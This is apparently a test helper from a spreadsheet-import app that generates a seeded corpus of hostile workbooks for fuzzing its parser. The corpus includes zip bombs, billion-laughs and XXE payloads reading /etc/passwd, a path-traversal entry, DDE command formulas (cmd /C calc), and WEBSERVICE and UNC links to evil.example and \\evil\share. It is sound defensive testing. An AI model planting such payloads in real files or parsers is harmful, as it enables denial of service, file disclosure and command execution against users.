/**
 * The hostile-file corpus, generated at test time from a seed (nothing large is committed):
 * random bytes, empty files, truncated and bit-flipped copies of the real fixtures, zip bombs
 * (honest and lying headers), huge dimensions and merges, a 1M-row sheet, deeply nested XML,
 * formulas (DDE too), external links, macros in .xlsm, wrong encodings and encrypted files.
 */
import { readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { constants, deflateRawSync } from 'node:zlib';
import * as XLSX from '@e965/xlsx';
import { seeded, type Rng } from '../../electron/services/demo/random';
import { readZip, writeZip, type ZipEntry } from './zip';

export interface HostileFile {
  category: string;
  name: string;
  bytes: Buffer;
}

const FIXTURES = ['花名册-基本.xlsx', '花名册-多级表头.xlsx', '表现及问责记录.xlsx', '干部名册-分单位.xls'];
const fixture = (name: string) => readFile(fileURLToPath(new URL(`../fixtures/${name}`, import.meta.url)));

const CONTENT_TYPES = (extra = '', main = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml') =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${main}"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>${extra}</Types>`;
const ROOT_RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
const WORKBOOK = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="花名册" sheetId="1" r:id="rId1"/></sheets></workbook>`;
const WB_RELS = (extra = '') =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>${extra}</Relationships>`;
const SHEET_OPEN =
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">';
const HEADER_ROW =
  '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c><c r="B1" t="inlineStr"><is><t>性别</t></is></c><c r="C1" t="inlineStr"><is><t>身份证号</t></is></c><c r="D1" t="inlineStr"><is><t>单位</t></is></c></row>';
const cell = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;

/** A one-sheet workbook around the given sheet XML body (inside <worksheet>). */
function workbook(
  sheetBody: string,
  opts: { entries?: ZipEntry[]; types?: string; rels?: string; main?: string; sheetRaw?: ZipEntry } = {},
): Buffer {
  return writeZip([
    { name: '[Content_Types].xml', data: Buffer.from(CONTENT_TYPES(opts.types, opts.main)) },
    { name: '_rels/.rels', data: Buffer.from(ROOT_RELS) },
    { name: 'xl/workbook.xml', data: Buffer.from(WORKBOOK) },
    { name: 'xl/_rels/workbook.xml.rels', data: Buffer.from(WB_RELS(opts.rels)) },
    opts.sheetRaw ?? { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(`${SHEET_OPEN}${sheetBody}</worksheet>`) },
    ...(opts.entries ?? []),
  ]);
}

/**
 * `head` + `unit` repeated to `total` bytes + `tail`, deflated without ever holding it: a block
 * deflated with a full flush refers to nothing before it, so the same compressed block can be
 * repeated (2 GB of XML in ~2 MB, made in milliseconds).
 */
function deflateRepeated(head: string, unit: string, total: number, tail: string): Buffer {
  const flush = { finishFlush: constants.Z_FULL_FLUSH };
  const plain = Buffer.from(unit.repeat(Math.floor((8 << 20) / unit.length)));
  const block = deflateRawSync(plain, flush);
  const blocks = Array.from({ length: Math.ceil(total / plain.length) }, () => block);
  return Buffer.concat([deflateRawSync(Buffer.from(head), flush), ...blocks, deflateRawSync(Buffer.from(tail))]);
}

function randomBytes(rng: Rng, n: number): Buffer {
  const b = Buffer.alloc(n);
  for (let i = 0; i < n; i++) b[i] = Math.floor(rng.next() * 256);
  return b;
}

/** GBK bytes of a roster CSV (the encoding WPS uses for “CSV (逗号分隔)” on Chinese Windows). */
const GBK_CSV = Buffer.from([
  0xd0,
  0xd5,
  0xc3,
  0xfb,
  0x2c,
  0xd0,
  0xd4,
  0xb1,
  0xf0,
  0x0a, // 姓名,性别
  0xcd,
  0xf5,
  0xce,
  0xe5,
  0x2c,
  0xc4,
  0xd0,
  0x0a, // 王五,男
]);

export async function hostileCorpus(seed: number): Promise<HostileFile[]> {
  const rng = seeded(seed);
  const files: HostileFile[] = [];
  const add = (category: string, name: string, bytes: Buffer) =>
    files.push({ category, name: `${String(files.length).padStart(3, '0')}-${name}`, bytes });
  const bases = await Promise.all(FIXTURES.map(async (f) => ({ name: f, bytes: await fixture(f) })));

  // Random bytes, bare and behind the zip and OLE2 signatures (so the real readers get them).
  for (let i = 0; i < 50; i++) add('random-bytes', `随机${i}.xlsx`, randomBytes(rng, rng.int(1, 65536)));
  for (let i = 0; i < 25; i++)
    add('random-bytes', `随机zip${i}.xlsx`, Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(rng, rng.int(10, 20000))]));
  for (let i = 0; i < 25; i++)
    add(
      'random-bytes',
      `随机ole${i}.xls`,
      Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), randomBytes(rng, rng.int(100, 20000))]),
    );
  add('empty', '空.xlsx', Buffer.alloc(0));
  add('empty', '空白.xls', Buffer.from('   \r\n\t '));
  add('empty', '只有签名.xlsx', Buffer.from('PK\x03\x04'));
  add('empty', '空zip.xlsx', writeZip([]));
  add('empty', '空工作簿.xlsx', workbook('<sheetData/>'));

  // Truncated and bit-flipped copies of every fixture.
  for (const base of bases) {
    for (let i = 0; i < 35; i++) add('truncated', `截断${i}-${base.name}`, base.bytes.subarray(0, rng.int(1, base.bytes.length - 1)));
    for (let i = 0; i < 45; i++) {
      const b = Buffer.from(base.bytes);
      for (let k = rng.int(1, 24); k > 0; k--) {
        const at = rng.int(0, b.length - 1);
        b[at] = rng.next() < 0.5 ? b[at] ^ (1 << rng.int(0, 7)) : rng.int(0, 255);
      }
      add('bit-flipped', `翻转${i}-${base.name}`, b);
    }
    // The same inside each zip part: damage that survives the zip layer and reaches the XML.
    if (base.name.endsWith('.xlsx')) {
      const parts = readZip(base.bytes);
      for (let i = 0; i < 10; i++) {
        const entries: ZipEntry[] = [...parts].map(([name, data]) => {
          if (rng.next() > 0.4) return { name, data };
          const d = Buffer.from(data);
          for (let k = rng.int(1, 8); k > 0; k--) d[rng.int(0, d.length - 1)] = rng.pick([0x3c, 0x3e, 0x22, 0x26, 0x00, 0xff, 0x20]);
          return { name, data: d };
        });
        add('xml-damaged', `坏XML${i}-${base.name}`, writeZip(entries));
      }
    }
  }

  // Zip bombs: 2 GB of XML that deflates to ~2 MB; the same with headers that lie about it;
  // ZIP64 size markers; 20,000 parts; one part listed 500 times; an unknown compression method.
  const bomb = deflateRepeated(`${SHEET_OPEN}<sheetData><row r="1">`, '<c/>', 2 << 30, '</row></sheetData></worksheet>');
  const sheet = (extra: Partial<ZipEntry>) => ({
    name: 'xl/worksheets/sheet1.xml',
    data: Buffer.alloc(0),
    raw: bomb,
    crc: 0,
    declaredSize: 2 << 30,
    ...extra,
  });
  add('zip-bomb', '炸弹-2GB.xlsx', workbook('', { sheetRaw: sheet({ declaredSize: 0x7fffffff }) }));
  add('zip-bomb', '炸弹-谎报大小.xlsx', workbook('', { sheetRaw: sheet({ declaredSize: 4096 }) }));
  add('zip-bomb', '炸弹-ZIP64.xlsx', workbook('', { sheetRaw: sheet({ declaredSize: 0xffffffff }) }));
  const spaces = deflateRepeated(SHEET_OPEN, ' ', 600 << 20, `<sheetData>${HEADER_ROW}</sheetData></worksheet>`);
  add(
    'zip-bomb',
    '炸弹-600MB空白.xlsx',
    workbook('', { sheetRaw: { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(0), raw: spaces, crc: 0, declaredSize: 600 << 20 } }),
  );
  add(
    'zip-bomb',
    '炸弹-空白谎报.xlsx',
    workbook('', { sheetRaw: { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(0), raw: spaces, crc: 0, declaredSize: 1000 } }),
  );
  add(
    'zip-bomb',
    '两万个部件.xlsx',
    workbook(`<sheetData>${HEADER_ROW}</sheetData>`, {
      entries: Array.from({ length: 20000 }, (_, i) => ({ name: `xl/media/p${i}.bin`, data: Buffer.from('x') })),
    }),
  );
  const part = { name: 'xl/sharedStrings.xml', data: Buffer.from('<sst/>'.padEnd(50_000, ' ')) };
  add('zip-bomb', '重复部件.xlsx', workbook(`<sheetData>${HEADER_ROW}</sheetData>`, { entries: Array.from({ length: 500 }, () => part) }));
  add(
    'zip-bomb',
    '未知压缩方式.xlsx',
    workbook('', {
      sheetRaw: { name: 'xl/worksheets/sheet1.xml', data: Buffer.from(`${SHEET_OPEN}<sheetData/></worksheet>`), method: 14 },
    }),
  );

  // Huge dimensions and merges, a cell at the very last address, a 1M-row sheet.
  const last = `<row r="1048576">${cell('XFD1048576', '王五')}</row>`;
  add('huge-dimension', '维度-XFD1048576.xlsx', workbook(`<dimension ref="A1:XFD1048576"/><sheetData>${HEADER_ROW}</sheetData>`));
  add('huge-dimension', '最后一格.xlsx', workbook(`<dimension ref="A1:XFD1048576"/><sheetData>${HEADER_ROW}${last}</sheetData>`));
  add(
    'huge-dimension',
    '整表合并.xlsx',
    workbook(`<sheetData>${HEADER_ROW}</sheetData><mergeCells count="1"><mergeCell ref="A2:XFD1048576"/></mergeCells>`),
  );
  add(
    'huge-dimension',
    '十万合并.xlsx',
    workbook(
      `<sheetData>${HEADER_ROW}</sheetData><mergeCells>${Array.from({ length: 100_000 }, (_, i) => `<mergeCell ref="A${2 * i + 2}:D${2 * i + 3}"/>`).join('')}</mergeCells>`,
    ),
  );
  add('huge-dimension', '列宽百万.xlsx', workbook(`<cols><col min="1" max="16384" width="9"/></cols><sheetData>${HEADER_ROW}</sheetData>`));
  for (const [label, rowXml] of [
    [
      '百万行',
      (r: number) =>
        `<row r="${r}"><c r="A${r}" t="inlineStr"><is><t>王${r}</t></is></c><c r="B${r}" t="inlineStr"><is><t>男</t></is></c></row>`,
    ],
    ['百万空行', (r: number) => `<row r="${r}"/>`],
  ] as const) {
    const rows: string[] = [HEADER_ROW];
    for (let r = 2; r <= 1_048_576; r++) rows.push(rowXml(r));
    add('million-rows', `${label}.xlsx`, workbook(`<sheetData>${rows.join('')}</sheetData>`));
  }

  // Deeply nested and hostile XML.
  add(
    'nested-xml',
    '嵌套十万层.xlsx',
    workbook(
      `<sheetData>${HEADER_ROW}<row r="2"><c r="A2" t="inlineStr"><is>${'<r>'.repeat(100_000)}${'</r>'.repeat(100_000)}</is></c></row></sheetData>`,
    ),
  );
  add('nested-xml', '嵌套标签未闭合.xlsx', workbook(`<sheetData>${'<row>'.repeat(50_000)}</sheetData>`));
  add('nested-xml', '实体膨胀.xlsx', billionLaughs());
  add('nested-xml', '外部实体.xlsx', xxe());
  add(
    'nested-xml',
    '超长文本.xlsx',
    workbook(`<sheetData>${HEADER_ROW}<row r="2">${cell('A2', '王'.repeat(5_000_000))}</row></sheetData>`),
  );
  add('nested-xml', '超长属性.xlsx', workbook(`<sheetData>${HEADER_ROW}<row r="2" spans="${'1:'.repeat(2_000_000)}"/></sheetData>`));

  // Formulas (DDE, external references, shared formulas without master), external links, macros.
  const formulas = [
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("http://evil.example/x","点我")',
    "='\\\\evil\\share\\[a.xlsx]Sheet1'!A1",
    '=WEBSERVICE("http://evil.example")',
    '=1/0',
    '=A3',
    '=INDIRECT("A"&ROW())',
  ];
  for (const [i, f] of formulas.entries()) {
    const esc = f.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
    add(
      'formula',
      `公式${i}.xlsx`,
      workbook(
        `<sheetData>${HEADER_ROW}<row r="2"><c r="A2" t="str"><f>${esc.slice(1)}</f><v>王五</v></c><c r="B2"><f>${esc.slice(1)}</f></c>${cell('C2', '110105194912310029')}</row></sheetData>`,
      ),
    );
  }
  add(
    'formula',
    '共享公式无主.xlsx',
    workbook(`<sheetData>${HEADER_ROW}<row r="2"><c r="A2"><f t="shared" si="7"/><v>1</v></c></row></sheetData>`),
  );
  add(
    'formula',
    '数组公式.xlsx',
    workbook(`<sheetData>${HEADER_ROW}<row r="2"><c r="A2"><f t="array" ref="A2:XFD1048576">1</f><v>1</v></c></row></sheetData>`),
  );
  const extLink = {
    name: 'xl/externalLinks/externalLink1.xml',
    data: Buffer.from(
      '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>',
    ),
  };
  const extRels = {
    name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
    data: Buffer.from(
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///\\\\evil\\share\\a.xlsx" TargetMode="External"/></Relationships>',
    ),
  };
  add(
    'external-link',
    '外部链接.xlsx',
    workbook(`<sheetData>${HEADER_ROW}<row r="2">${cell('A2', '王五')}</row></sheetData>`, {
      entries: [extLink, extRels],
      rels: '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>',
    }),
  );
  add(
    'external-link',
    '外部图片.xlsx',
    workbook(`<sheetData>${HEADER_ROW}</sheetData><drawing r:id="rId5"/>`, {
      rels: '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://evil.example/a.png" TargetMode="External"/>',
    }),
  );
  add('external-link', '路径穿越.xlsx', workbook('', { sheetRaw: { name: '../../../../etc/passwd', data: Buffer.from('root:x:0:0') } }));
  const vba = { name: 'xl/vbaProject.bin', data: randomBytes(rng, 8192) };
  const macroMain = 'application/vnd.ms-excel.sheet.macroEnabled.main+xml';
  add(
    'macro',
    '宏.xlsm',
    workbook(`<sheetData>${HEADER_ROW}<row r="2">${cell('A2', '王五')}${cell('B2', '男')}</row></sheetData>`, {
      entries: [vba],
      main: macroMain,
      types: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    }),
  );
  add('macro', '宏-改名为xlsx.xlsx', workbook(`<sheetData>${HEADER_ROW}</sheetData>`, { entries: [vba], main: macroMain }));
  add(
    'macro',
    '宏-自动运行.xlsm',
    workbook(`<sheetData>${HEADER_ROW}</sheetData>`, {
      entries: [
        vba,
        {
          name: 'xl/macrosheets/sheet2.xml',
          data: Buffer.from('<xm:macrosheet><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row></sheetData></xm:macrosheet>'),
        },
      ],
      main: macroMain,
    }),
  );

  // Wrong encodings and not-a-workbook formats with a workbook's name.
  add('encoding', 'GBK表格.xls', GBK_CSV);
  add('encoding', 'GBK表格.xlsx', GBK_CSV);
  add('encoding', 'UTF16.xls', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('姓名\t性别\r\n王五\t男\r\n', 'utf16le')]));
  add('encoding', 'UTF16BE.xls', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('姓名\t性别\r\n', 'utf16le').swap16()]));
  add('encoding', 'UTF8-BOM.xls', Buffer.from('\ufeff姓名,性别\n王五,男\n'));
  add(
    'encoding',
    '网页另存.xls',
    Buffer.from('<html><body><table><tr><td>姓名</td><td>性别</td></tr><tr><td>王五</td><td>男</td></tr></table></body></html>'),
  );
  add(
    'encoding',
    'XML表格2003.xls',
    Buffer.from(
      '<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="花名册"><Table><Row><Cell><Data ss:Type="String">姓名</Data></Cell></Row></Table></Worksheet></Workbook>',
    ),
  );
  add('encoding', 'PDF改名.xlsx', Buffer.from('%PDF-1.4\n%âãÏÓ\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF'));
  add(
    'encoding',
    'GBK表头.xlsx',
    workbook(`<sheetData><row r="1">${cell('A1', GBK_CSV.subarray(0, 4).toString('latin1'))}</row></sheetData>`),
  );
  add(
    'encoding',
    'UTF16声明.xlsx',
    workbook('', {
      sheetRaw: {
        name: 'xl/worksheets/sheet1.xml',
        data: Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from(
            `<?xml version="1.0" encoding="UTF-16"?>${SHEET_OPEN.replace(/^<\?xml[^>]*>/, '')}<sheetData>${HEADER_ROW}</sheetData></worksheet>`,
            'utf16le',
          ),
        ]),
      },
    }),
  );

  // Password-protected: the OLE2 container Excel/WPS write, with and without a real package.
  for (let i = 0; i < 4; i++) {
    const cfb = XLSX.CFB.utils.cfb_new();
    XLSX.CFB.utils.cfb_add(cfb, 'EncryptionInfo', i % 2 ? randomBytes(rng, 200) : Buffer.from([4, 0, 4, 0, 0x40, 0, 0, 0]));
    XLSX.CFB.utils.cfb_add(cfb, 'EncryptedPackage', randomBytes(rng, 4096 * (i + 1)));
    add('password', `加密${i}.xlsx`, Buffer.from(XLSX.CFB.write(cfb, { type: 'buffer' }) as Uint8Array));
  }
  for (const [i, stream] of ['Workbook', 'Book', 'WordDocument'].entries()) {
    const cfb = XLSX.CFB.utils.cfb_new();
    XLSX.CFB.utils.cfb_add(cfb, stream, randomBytes(rng, 2048 * (i + 1)));
    add('password', `OLE2-${stream}.xls`, Buffer.from(XLSX.CFB.write(cfb, { type: 'buffer' }) as Uint8Array));
  }
  return files;
}

/** XML entity expansion (“billion laughs”) in the shared strings. */
function billionLaughs(): Buffer {
  const ents = ['<!ENTITY lol0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`)].join(
    '',
  );
  const sst = `<?xml version="1.0"?><!DOCTYPE sst [${ents}]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>`;
  return workbook(`<sheetData>${HEADER_ROW}<row r="2"><c r="A2" t="s"><v>0</v></c></row></sheetData>`, {
    entries: [{ name: 'xl/sharedStrings.xml', data: Buffer.from(sst) }],
    rels: '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>',
  });
}

/** An external entity that would read a local file if the parser resolved it. */
function xxe(): Buffer {
  const sst = `<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&x;</t></si></sst>`;
  return workbook(`<sheetData>${HEADER_ROW}<row r="2"><c r="A2" t="s"><v>0</v></c></row></sheetData>`, {
    entries: [{ name: 'xl/sharedStrings.xml', data: Buffer.from(sst) }],
    rels: '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>',
  });
}
